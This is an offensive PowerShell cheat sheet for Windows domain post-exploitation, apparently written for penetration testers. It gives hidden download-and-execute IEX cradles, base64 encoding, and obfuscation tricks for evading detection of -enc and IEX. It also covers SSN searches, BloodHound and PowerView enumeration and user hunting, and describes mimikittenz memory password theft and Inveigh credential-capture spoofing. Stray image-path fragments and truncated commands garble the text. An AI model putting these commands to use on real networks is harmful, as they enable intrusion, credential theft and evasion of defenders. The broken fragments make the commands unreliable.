[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};(new-object"","C:\Users\username\AppData\Local\Temp\file.txt")

Encode string

echo "iex (New-Object Net.WebClient).DownloadString('')" | iconv --to-code UTF-16LE | base64 -w 0

List recently modified files in path (U:)

Get-Childitem u:\ -Recurse | where-object {!($_.psiscontainer)} | where { $_.LastWriteTime -gt $(Get-Date).AddDays(-1) } | foreach {"$($_.LastWriteTime) :: $($_.Fullname) " }

List Files

Select-String -Path c:\fso\*.txt, c:\fso\*.log -pattern ed

List First 100 Files

Get-ChildItem -Path XXX |Select -First 100 Fullname

List a Process’s Loaded Modules (DLL)

get-process -id 1234|select -expand modulesRemote Command Execution using MMC

Get LocalAccountTokenFilterPolicy (Determine if you can authenticate to admin resources over the network, i.e. C$,ADMIN$)

Get-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\ |Select LocalAccountTokenFilterPolicy |fl

Test User Credentials

powerpick $password = ConvertTo-SecureString "PlainTextPassword" -AsPlainText -Force;$cred= New-Object System.Management.Automation.PSCredential ("domain\name", $password);

Search for SSN

$SSN_Regex = " [0-9]{3}[-| ][0-9]{2}[-| ][0-9]{4}" ; Get-ChildItem . -Recurse -exclude *.exe,*.dll| Select-String -Pattern $SSN_Regex | Select-String -Pattern $SSN_Regex| Select-Object Path,Filename,Matches |ft -auto|out-string -width 200; "[*] SSN Search Complete!"

Enumerate the use of the Windows Server Update Services (WSUS)

Get-ItemProperty -Path Registry::"HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate" |Select-Object -ExpandProperty WUServer

Get-ItemProperty -Path Registry::"HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate" |Select-Object -ExpandProperty WUStatusServer

Get-ItemProperty -Path Registry::"HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU" |Select-Object -ExpandProperty UseWUServer

reg query HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate

Get unquoted service paths

gwmi win32_service |Select pathname | Where {($_.pathname -ne $null)} | Where {-not $_.pathname.StartsWith("`"")} | Where {($_.pathname.Substring(0, $_.pathname.IndexOf(".") +4)) -match ".* .*"}


Find-Files (custom)Find-Files -searchBase "i:\" -searchTerms "*web.xml*,*web.config*,*password*,*tomcat-users.xml*" -LogPath "C:\Users\username\AppData\Local\Temp"

Get-Enumeration (custom)

Run Local and Domain enumeration functions on the local host.

Get-Enumeration -Path . -Local -Domain

Download and execute IEX

powershell -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString('')"

EncodedCommand and IEX detection bypass

Author: Dave Kennedy

Avoid detection of -encpowershell -window hidden -C "set-variable -name "C" -value "-"; set-variable -name "s" -value "e"; set-variable -name "q" -value "c"; set-variable -name "P" -value ((get-variable C).value.toString()+(get-variable s).value.toString()+(get-variable q).value.toString()) ; powershell (get-variable P).value.toString() "

Avoid detection of IEX

powershell -window hidden -C "set-variable -name "LB"-value "I"; set-variable -name "I" -value "E"; set-variable -name "V" -value "X"; set-variable -name "wP" -value ((get-variable LB).value.toString()+(get-variable I).value.toString()+(get-variable V).value.toString()) ; powershell (get-variable wP).value.toString() ('')"


iex((new-object''));Invoke-Bloodhound -CSVFolder c:\temp -CSVPrefix

Invoke-BloodHound -DomainController -Domain -CSVFolder C:\users\public\libraries -CSVPrefix -CollectionMethod Stealth


mimikittenz is a post-exploitation powershell tool that utilizes the Windows function ReadProcessMemory() in order to extract plain-text passwords from various target processes.

mimikittenz can also easily extract other kinds of juicy info from target processes using regex patterns including but not limited to:

  • TRACK2 (CreditCard) data from merchant/POS processes
  • PII data• Encryption Keys & All the other goodstuff




Custom regex - The syntax for adding custom regex is as follows:

Custom target process - Just append your target proccess name into the array:


Performs multiple local host privilege escalation checks for common Windows misconfigurations.


See cheat sheet for more commands• Requires domain user privileges

Find Administrative users logged in across the domain – default group = Domain Admins)

Invoke-UserHunter -Threads 15 -NoPing [-GroupName “Enterprise Admins”]
Invoke-UserHunter -Threads 20 -GroupName "Domain Admins" -SearchForest -CheckAccess

Find User (Stealthy via Fileshares)Invoke-UserHunter -Stealth -Threads 5 -NoPing [-GroupName “Enterprise Admins”] [-UserName "svcAccount"]

Get domain user info

Get-NetUser [-UserName john]

Get-NetUser -Domain | Select-Objectobjectsid,lockouttime,samaccounttype,accountexpires,objectclass,useraccountcontrol,@{Name='memberof';Expression={[string]::join(";",($_.memberof))}},info,distinguishedname,adspath,cn,pwdlastset,objectguid,whencreated,description,samaccountname,usnchanged,name| export-csv userprops_members.csv

Find group names

Get-NetGroup [-GroupName *admin*]

Get group members

Get-NetGroupMember [-GroupName “Domain Admins”]

Find open shares – Noisy

Invoke-ShareFinder -CheckShareAccess

Find open (non-default i.e. C$) shares by LDAP source

Invoke-ShareFinder -ComputerADSPath "LDAP://OU=Servers,OU=IT,DC=domain,DC=com" -CheckShareAccess -ExcludeStandard | Out-File -Encoding ascii c:\windows\temp\server_shares.txt

Invoke-ShareFinder -ExcludePrint -ExcludeIPC -CheckShareAccessFind interesting files

powershell Invoke-FileFinder -ComputerName -share share_list.txt -terms ssn,pass,sensitive,secret,admin,login,unattend*.xml,web.config,account -Threads 20 | export-csv filefinder_shares.csv

Find hosts where the current user is local admin – NoisyGet details of all domain computers and export to a CSV file for easy viewing

Get-computerproperty -Domain -properties displayname,adspath,lastlogontimestamp,operatingsystem,operatingsystemversion,@{Name='memberof';Expression={[string]::join(";",($_.memberof))}}|export-csv computerprops.csv

Get Computers with Unconstrained Delegation

Get-NetComputer -Unconstrained |ft -a

Get Users & Computers Trusted for Delegation

Get-DomainUser -TrustedtoAuth -Properties distinguisedname,useraccountcontrol,msds-allowedtodelegateto|fl

Get-DomainComputer -TrustedtoAuth -Properties distinguisedname,useraccountcontrol,msds-allowedtodelegateto|fl

net * Functions:

Get-NetDomain - gets the name of the current user's domainGet-NetForest - gets the forest associated with the current user's domain
Get-NetForestDomain - gets all domains for the current forest
Get-NetDomainController - gets the domain controllers for the current computer's domain
Get-NetUser - returns all user objects, or the user specified (wildcard specifiable)
Add-NetUser - adds a local or domain user
Get-NetComputer - gets a list of all current servers in the domainGet-NetPrinter - gets an array of all current computers objects in a domain
Get-NetOU - gets data for domain organization units
Get-NetSite - gets current sites in a domain
Get-NetSubnet -gets registered subnets for a domain
Get-NetGroup - gets a list of all current groups in a domain
Get-NetGroupMember - gets a list of all current users in a specified domain group
Get-NetLocalGroup - gets the members of a localgroup on a remote host or hosts
Add-NetGroupUser - adds a local or domain user to a local or domain group
Get-NetFileServer - get a list of file servers used by current domain users
Get-DFSshare - gets a list of all distribute file system shares on a domain
Get-NetShare - gets share information for a specified server
Get-NetLoggedon - gets users actively logged onto a specified server
Get-NetSession - gets active sessions on a specified server
Get-NetRDPSession - gets active RDP sessions for a specified server (like qwinsta)
Get-NetProcess - gets the remote processes and owners on a remote server
Get-UserEvent - returns logon or TGT events from the event log for a specified host
Get-ADObject - takes a domain SID and returns the user, group, or computer
object associated with it
Set-ADObject - takes a SID, name, or SamAccountName to query for a specified
domain object, and then sets a specified 'PropertyName' to a
specified 'PropertyValue'

GPO functions

Get-GptTmpl - parses a GptTmpl.inf to a custom object
Get-NetGPO - gets all current GPOs for a given domain
Get-NetGPOGroup - gets all GPOs in a domain that set "Restricted Groups"
on on target machines
Find-GPOLocation - takes a user/group and makes machines they have effective
rights over through GPO enumeration and correlation
Find-GPOComputerAdmin - takes a computer and determines who has admin rights over it
through GPOenumeration
Get-DomainPolicy - returns the default domain or DC policy

User-Hunting Functions:

Invoke-UserHunter - finds machines on the local domain where specified users are logged into, and can optionally check if the current user has local admin access to found machines
Invoke-StealthUserHunter - finds all file servers utilizes in user HomeDirectories, and checks the sessions one each file server, hunting for particular users
Invoke-ProcessHunter - hunts for processes with a specific name or owned by a specific user on domain machines
Invoke-UserEventHunter - hunts for user logon events in domain controller event logs

Domain Trust Functions:Get-NetDomainTrust - gets all trusts for the current user's domain
Get-NetForestTrust - gets all trusts for the forest associated with the current user's domain
Find-ForeignUser - enumerates users who are in groups outside of their principal domain
Find-ForeignGroup - enumerates all the members of a domain's groups and finds users that are outside of the queried domain
Invoke-MapDomainTrust - try to build a relational mapping of all domain trusts


Invoke-ShareFinder - finds (non-standard) shares on hosts in the local domain
Invoke-FileFinder - finds potentially sensitive files on hosts in the local domain
Find-LocalAdminAccess - finds machines on the domain that the current user has local adminaccess to
Find-UserField - searches a user field for a particular term
Find-ComputerField - searches a computer field for a particular term
Get-ExploitableSystem - finds systems likely vulnerable to common exploits
Invoke-EnumerateLocalAdmin - enumerates members of the local Administrators groups across all machines in the domain

HarmJ0y PowerView Cheat Sheet PDF
HarmJ0y’s PowerView 2.0 Tricks Gist


Inveigh is a Windows PowerShell LLMNR/NBNS spoofer/man-in-the-middle tool designed to assist penetration testers that find themselves limited to a Windows system.

  • The main Inveigh LLMNR/NBNS spoofer function.



Privilege Requirements:
  • Elevated Administrator or SYSTEM
  • IPv4 LLMNR/NBNS spoofer with granular control
  • NTLMv1/NTLMv2 challenge/response capture over HTTP/HTTPS/SMB
  • Basic auth cleartext credential capture over HTTP/HTTPS
  • WPAD server capable of hosting a basic or custom wpad.dat file
  • HTTP/HTTPS server capable of hosting limited content
  • Granular control of console and file output
  • Run time control


Powershell W/out Powershell

